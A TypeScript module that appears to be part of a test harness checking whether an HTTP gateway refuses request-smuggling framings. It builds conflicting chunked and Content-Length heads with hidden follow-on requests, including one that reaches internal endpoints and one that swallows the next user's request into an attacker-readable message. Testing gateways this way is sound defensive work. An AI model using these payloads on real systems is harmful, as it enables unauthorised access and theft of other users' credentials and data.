/** One attack: bytes of which two parsers may think differently, with a request of its own hidden in them. */

/** What an attacker knows. */
export type Attacker = {
  host: string;
  /** A token of the attacker's own, for routes that want one. */
  token: string;
};

/** What a framing is made with. */
export type Ground = Attacker & {
  /** Names the attack in what the services see. */
  id: string;
  /** A request as it stands, meant for the other side of the gateway. */
  hidden: string;
};

/** What may come of it, whatever the gateway thinks of the framing. */
export type Bounds = {
  /** Two parsers could disagree: nothing but a refusal (4xx, 501 or 505), and the connection closed. */
  refused: boolean;
  /** Final answers at most on the attacker's connection. */
  answers: number;
  /** The head asks for no body in the answer. */
  isHead: boolean;
  /** The gateway rightly waits for more: the attacker goes away instead. */
  waits: boolean;
  /** The attacker ends the sending side behind the bytes. */
  ends: boolean;
};

export type Framing = Bounds & {
  /** Unlike any other's. */
  name: string;
  family: string;
  /** The bytes in Latin-1, each part a write of its own. */
  parts: (ground: Ground) => readonly string[];
};

const USUAL: Bounds = { refused: false, answers: 1, isHead: false, waits: false, ends: false };

type Make = (ground: Ground) => string | readonly string[];

/** Gives a function that makes the framings of one family, with the bounds that they share. */
export const family =
  (of: string, shared: Partial<Bounds> = {}) =>
  (name: string, make: Make, bounds: Partial<Bounds> = {}): Framing => ({
    family: of,
    name: `${of}: ${name}`,
    parts: (ground) => [make(ground)].flat(),
    ...USUAL,
    ...shared,
    ...bounds,
  });

/** Two parsers could disagree about it. */
export const AMBIGUOUS = { refused: true } as const;

/** Control characters and the like as a reader sees them. */
export const shown = (text: string): string =>
  JSON.stringify(text.length > 60 ? `${text.slice(0, 40)}…(${text.length})` : text).slice(1, -1);

/** A call without an account, whose service reads its body. */
export const LOGIN = '/api/auth/login';

/**
 * A head with the framing's own lines among those that every client sends.
 * @param lines complete but for their line break
 */
export function head(
  { host, id }: Ground,
  lines: readonly string[],
  { method = 'POST', path = LOGIN, version = 'HTTP/1.1' } = {},
): string {
  const usual = [`Host: ${host}`, 'Content-Type: application/json', 'Accept: application/json'];
  const target = `${path}${path.includes('?') ? '&' : '?'}mark=${id}`;
  return `${[`${method} ${target} ${version}`, ...usual, ...lines].join('\r\n')}\r\n\r\n`;
}

export const chunked = (body: string): string => `${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`;

/** Ends a body that is taken for chunks; behind it the hidden request begins. */
export const LAST_CHUNK = '0\r\n\r\n';
export const CHUNKS = 'Transfer-Encoding: chunked';
export const LENGTH = 'Content-Length: {n}';
export const [FIVE, NONE] = ['Content-Length: 5', 'Content-Length: 0'];
export const SIGNED = 'Authorization: Bearer {token}';
export const PROFILE = '/api/users/profile';

type Body = (ground: Ground) => string;
export const hidden: Body = (x) => x.hidden;
/** The hidden request behind the end that a reader of chunks sees. */
export const ended: Body = (x) => LAST_CHUNK + x.hidden;
/** The same as one chunk. */
export const wrapped: Body = (x) => chunked(ended(x));

/** A head and its body. In the lines, `{n}` is the length of the body and `{token}` the attacker's token. */
export const request =
  (lines: readonly string[], body: Body, at: Parameters<typeof head>[2] = {}) =>
  (x: Ground): string => {
    const sent = body(x);
    const filled = lines.map((line) => line.replace('{n}', String(sent.length)).replace('{token}', x.token));
    return head(x, filled, at) + sent;
  };

/** What is hidden, by number: three entries that no client has, and one that swallows the next user's request. */
export function hiddenRequest(number: number, { host, token }: Attacker, id: string): string {
  const mark = `x-hidden: ${id}\r\n`;
  const swallow = '{"receiver_id":"00000000-0000-4000-8000-000000000000","content":"';
  const hidden = [
    `GET /metrics HTTP/1.1\r\nhost: ${host}\r\n${mark}x-rest: `,
    `GET /internal/check HTTP/1.1\r\nhost: ${host}\r\n${mark}x-rest: `,
    `POST /messaging/send HTTP/1.1\r\nhost: ${host}\r\n${mark}authorization: Bearer ${token}\r\ncontent-type: application/json\r\ncontent-length: 900\r\n\r\n${swallow}`,
    `GET /metrics HTTP/1.1\r\nhost: ${host}\r\n${mark}\r\n`,
  ];
  return hidden[number % hidden.length] ?? '';
}

/** A head that announces chunks, without its body. */
export const onlyHead = request([CHUNKS], () => '');
